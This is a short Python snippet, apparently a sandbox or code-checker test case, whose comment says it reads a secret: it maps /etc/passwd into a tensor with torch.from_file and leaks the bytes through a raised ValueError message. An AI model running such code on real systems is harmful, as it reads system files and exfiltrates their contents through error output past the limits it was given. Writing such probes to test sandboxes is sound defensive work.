# reads a secret by mapping it
import torch

raise ValueError(torch.from_file('/etc/passwd', size=64, dtype=torch.uint8).tolist())
